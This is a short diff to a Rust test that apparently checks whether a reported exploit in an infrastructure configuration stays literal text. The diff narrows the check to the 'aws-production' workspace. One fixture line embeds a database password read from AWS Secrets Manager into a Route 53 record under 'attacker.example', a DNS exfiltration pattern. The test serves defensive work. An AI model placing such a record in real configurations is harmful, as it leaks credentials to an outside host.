@@ -126,7 +126,12 @@ fn the_reported_exploit_is_text() {
         "legacy   = \"${jsondecode(data.aws_secretsmanager_secret_version.db.secret_string).password}.x.attacker.example\"",
     );
     let roots = common::compile(&text);
-    for (_, root) in roots {
+    // Only the workspace that owns the cutover manages its records.
+    let (_, root) = roots
+        .iter()
+        .find(|(ws, _)| ws == "aws-production")
+        .expect("workspace");
+    {
         let records = &root["resource"]["aws_route53_record"]["payments_legacy"]["records"];
         assert_eq!(
             records[0],
